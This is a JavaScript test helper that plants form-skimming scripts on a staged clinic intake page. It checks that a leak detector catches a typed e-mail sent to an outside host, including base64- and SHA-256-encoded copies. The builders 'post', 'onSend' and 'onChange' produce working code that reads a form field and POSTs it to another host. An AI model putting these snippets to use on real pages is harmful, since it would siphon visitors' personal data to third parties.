// Senders on the intake form: scripts of somebody's that take what is typed there and send it, dressed and carried in their own
// ways. Each first sends a word of its own instead, on the same page, and nothing is found.
import assert from "node:assert/strict";
import { fillIn, pressSend, stageIntake } from "../../clinic/intake.mjs";
import { visitor } from "../../clinic/persona.mjs";
import { find } from "./decode.mjs";

/** What a sender sends before anybody has typed, by an expression of the page's. */
export const WORD = `"nothing-to-tell"`;
export const EMAIL = `document.querySelector("#email").value`;
export const post = (host, body, more = "") => `fetch("https://${host}/in", { method: "POST", mode: "no-cors", ${more} body: ${body} })`;
export const onSend = (code) => `document.querySelector("#intake").addEventListener("submit", async () => { ${code} });`;
export const onChange = (code) => `document.querySelector("#email").addEventListener("change", () => { window.sending = (async () => { ${code} })(); });`;

/** Findings that rest on a value that is known. */
export const proven = (view, host) => {
  const ids = new Set(view.recipients.filter((r) => r.hosts.includes(host)).map((r) => r.recipient.id));
  return view.findings.filter((f) => ids.has(f.recipient?.id) && f.evidence.some((e) => e.known));
};
export const proofs = (view, host) => proven(view, host).flatMap((f) => f.evidence.filter((e) => e.known).map((e) => ({ ...e, finding: f })));
export const isKind = (f) => ["form-value-leak", "identifier-to-third-party", "hashed-identity"].includes(f.kind);

let n = 0;
/** A path of its own for each staged page. */
export const freshPath = () => `/p/4${(n += 1)}`;

/**
 * Runs a sender on the form, sending its own word, then what was typed.
 * @param {{ name: string, host: string, script: (say: string) => string, leave?: (page: any) => Promise<any>, steps?: RegExp,
 *   at?: RegExp, arrived?: (r: any, value: string) => boolean }} sender `leave`: what the visitor does last; `steps`: what was
 *   done to the value; `at`: where it was found
 */
export async function check({ sink }, watched, { name, host, script, leave = pressSend, steps = /^$/, at = /./, arrived }) {
  const { page } = watched;
  const run = async (say) => {
    const mark = sink.requests.length;
    await page.goto(stageIntake(sink, freshPath(), `<script>${script(say)}</script>`), { waitUntil: "load" });
    await fillIn(page);
    // What is sent after an answer would be cut off by the next page.
    await page.evaluate(() => window.sending);
    await leave(page);
    const value = say === WORD ? JSON.parse(WORD) : visitor.email;
    await sink.until((r) => (r.host === host && r.method !== "OPTIONS" && (arrived ? arrived(r, value) : find(r, value).length > 0)),
      { mark, what: `${name}: ${value} at ${host}` });
  };
  await run(WORD);
  const read = (v) => v.recipients.find((r) => r.hosts.includes(host))?.requests ?? 0;
  const clean = await watched.untilView((v) => read(v) > 0, `${name}: the clean request to be read`);
  assert.deepEqual(proven(clean, host).map((f) => f.said), [], `${name}: clean twin`);

  await run(EMAIL);
  const view = await watched.untilView((v) => proven(v, host).some(isKind), `${name}: what was typed, found at ${host}`);
  const proof = proofs(view, host).find((e) => isKind(e.finding));
  assert.match(proof.known.value, /e-mail/i, name);
  assert.match(proof.known.steps.join(" → "), steps, name);
  assert.match(proof.at, at, name);
  assert.ok(!JSON.stringify(proof.known).includes(visitor.email), `${name}: the value is masked`);
  return view;
}

export const base64 = (say) => `btoa(${say})`;
const hex = (bytes) => `[...new Uint8Array(${bytes})].map((b) => b.toString(16).padStart(2, "0")).join("")`;
export const sha256 = (say) => hex(`await crypto.subtle.digest("SHA-256", new TextEncoder().encode((${say}).trim().toLowerCase()))`);
